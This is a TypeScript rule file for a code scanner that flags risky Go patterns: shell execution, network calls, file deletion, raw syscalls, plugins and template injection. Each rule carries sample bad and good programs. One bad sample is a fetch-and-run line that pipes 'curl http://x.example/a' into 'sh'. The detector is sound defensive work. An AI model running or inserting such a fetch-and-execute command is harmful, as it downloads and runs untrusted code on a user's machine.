import type { Rule } from '../rule.ts';
import { CHILD, CODE, FILES, HARM, KERNEL, NATIVE, NET, SHELL } from './kinds.ts';
import { HARMFUL, SHELL_NAME } from './process.ts';

const languages = ['go'] as const;
const COMMANDS = ['os/exec.{Command,CommandContext}'];
const program = (imports: string, body: string) =>
  `package main\n\nimport "${imports}"\n\nfunc main() { ${body} }`;

/** Rules for Go. */
export const GO: readonly Rule[] = [
  {
    id: 'go-harmful-command',
    languages,
    severity: 'critical',
    confidence: 'high',
    ...HARM,
    message: '{} is given a command that does harm',
    match: { call: COMMANDS, when: [{ arg: 'any', is: [{ matches: HARMFUL }, { shape: HARMFUL }] }] },
    bad: program('os/exec', 'exec.Command("sh", "-c", "curl http://x.example/a | sh").Run()'),
    good: program('fmt', 'fmt.Println("rm")'),
  },
  {
    id: 'go-shell',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...SHELL,
    message: '{} gives a shell text that is computed',
    match: [
      {
        call: COMMANDS,
        when: [
          { arg: 'any', is: { matches: SHELL_NAME } },
          { arg: 'any', is: 'dynamic' },
        ],
      },
      { call: ['os/exec.Command'], when: [{ arg: 0, is: 'external' }] },
    ],
    bad: program('os/exec', 'exec.Command("sh", "-c", read()).Run()'),
    good: program('os/exec', 'exec.Command("ls", "-l").Run()'),
  },
  {
    id: 'go-command',
    languages,
    severity: 'medium',
    confidence: 'high',
    ...CHILD,
    message: '{} starts another program',
    match: { call: [...COMMANDS, 'os.StartProcess', 'syscall.{Exec,ForkExec,StartProcess}', 'os/exec.Cmd'] },
    bad: program('os/exec', 'exec.Command("ls").Run()'),
    good: program('os', 'os.ReadDir(".")'),
  },
  {
    id: 'go-network',
    languages,
    severity: 'medium',
    confidence: 'high',
    ...NET,
    message: '{} opens the network',
    match: {
      call: [
        'net.{Dial,DialTimeout,DialTCP,DialUDP,DialIP,DialUnix,Listen,ListenTCP,ListenUDP,ListenPacket,LookupHost,LookupIP,LookupAddr,Dialer}',
        'crypto/tls.{Dial,Listen}',
        'net/http.{Get,Head,Post,PostForm,NewRequest,NewRequestWithContext,ListenAndServe,ListenAndServeTLS,Server}',
      ],
    },
    bad: program('net', 'net.Dial("tcp", "10.0.0.1:80")'),
    good: program('net', 'net.ParseIP("10.0.0.1")'),
  },
  {
    id: 'go-files',
    languages,
    severity: 'low',
    confidence: 'medium',
    ...FILES,
    message: '{} removes files or changes who may use them',
    match: { call: ['os.{Remove,RemoveAll,Chmod,Chown,Symlink,Link}', 'syscall.{Unlink,Rmdir,Chmod}'] },
    bad: program('os', 'os.RemoveAll("data")'),
    good: program('os', 'os.ReadFile("data")'),
  },
  {
    id: 'go-unsafe',
    languages,
    severity: 'info',
    confidence: 'high',
    ...NATIVE,
    message: '{} leaves the rules of types',
    match: { call: ['unsafe.{Pointer,Slice,String,Add}'] },
    bad: program('unsafe', 'p := unsafe.Pointer(&x); use(p)'),
    good: program('unsafe', 'n := unsafe.Sizeof(x); use(n)'),
  },
  {
    id: 'go-foreign-code',
    languages,
    severity: 'medium',
    confidence: 'high',
    ...NATIVE,
    message: 'the program takes in code of C',
    match: { import: ['C'] },
    bad: program('C', 'C.puts(x)'),
    good: program('fmt', 'fmt.Println("C")'),
  },
  {
    id: 'go-kernel',
    languages,
    severity: 'high',
    confidence: 'medium',
    ...KERNEL,
    message: '{} acts on the system directly',
    match: [
      { read: ['{syscall,golang.org/x/sys/unix}.PROT_EXEC'] },
      {
        call: [
          'syscall.{Syscall,Syscall6,RawSyscall,RawSyscall6,PtraceAttach,PtracePokeText,Mount,Chroot,Unshare,Setuid,Kill,Mprotect}',
          'golang.org/x/sys/unix.{Syscall,RawSyscall,PtraceAttach,Mount,Chroot,Unshare,Setns,Kill,Mprotect}',
        ],
      },
    ],
    bad: program('syscall', 'syscall.RawSyscall(59, 0, 0, 0)'),
    good: program('syscall', 'println(syscall.Getpid())'),
  },
  {
    id: 'go-plugin',
    languages,
    severity: 'high',
    confidence: 'high',
    ...CODE,
    message: '{} loads code while the program runs',
    match: { call: ['plugin.Open'] },
    bad: program('plugin', 'plugin.Open("x.so")'),
    good: program('os', 'os.Open("x.txt")'),
  },
  {
    id: 'go-template',
    languages,
    severity: 'medium',
    confidence: 'medium',
    ...CODE,
    category: 'injection',
    cwe: 1336,
    message: '{} makes a template of computed text',
    match: { call: ['{text,html}/template.New().Parse'], when: [{ arg: 0, is: ['built', 'remote'] }] },
    bad: program('text/template', 'template.New("a").Parse("<b>" + name())'),
    good: program('text/template', 'template.New("a").Parse("<b>{{.}}</b>")'),
  },
];
